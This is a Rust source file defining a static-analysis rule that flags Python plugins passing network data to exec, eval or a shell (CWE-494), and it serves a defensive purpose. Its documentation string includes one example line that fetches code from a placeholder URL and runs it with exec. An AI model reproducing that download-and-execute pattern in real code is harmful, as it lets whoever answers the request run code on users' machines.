use airlock_model::{Confidence, RuleMeta, Severity};

use crate::python::model::origin::SourceKind;
use crate::rules::arrivals::Arrival;
use crate::rules::check::Check;
use crate::rules::sinks::{Part, SinkKind};
use crate::rules::{Rule, rule::Hook};

pub(crate) const RULE: Rule = Rule {
    meta: RuleMeta {
        id: "AL-FLOW-download-execute",
        title: "An answer from the network is run",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: Some(494),
        bandit: &[],
        ruff: &[],
        remedy: "Ship the code with the plugin, where it can be examined.",
        doc: DOC,
    },
    hooks: &[Hook::Flow(
        &[SourceKind::Network, SourceKind::Metadata],
        &[SinkKind::Execute, SinkKind::Shell, SinkKind::Process],
        check,
    )],
};

fn check(check: &mut Check<'_, '_>, arrival: &Arrival) {
    let mut flows = arrival.of(&[SourceKind::Network, SourceKind::Metadata]);
    // What went through a file has a rule of its own; an argument of a fixed program is data,
    // and what is put into a shell's line is told by the rule about that.
    let Some((_, flow)) = flows.find(|(part, flow)| !flow.by_file && !matches!(part, Part::Argument | Part::Rest))
    else {
        return;
    };
    let message = format!("{} is given what {} answered", arrival.path, flow.path);
    let confidence = if flow.weak { Confidence::Medium } else { Confidence::High };
    let finding = super::finding(check, arrival, flow, message).confidence(confidence);
    check.report(finding);
}

const DOC: &str = r##"## What it finds
Data from a network client that reaches `exec`, `eval`, a shell, or the name of a program that is started, through any names, containers, functions and modules of the plugin.

## Why it is dangerous
Whoever answers the request, today or after the domain has changed hands, runs code on every machine that has the plugin.

## Example
```python
import urllib.request

exec(urllib.request.urlopen("https://example.org/x.py").read())
```

## Safe form
```python
import json
import urllib.request

json.load(urllib.request.urlopen("https://example.org/x.json"))
```

## References
- CWE-494: Download of Code Without Integrity Check
"##;
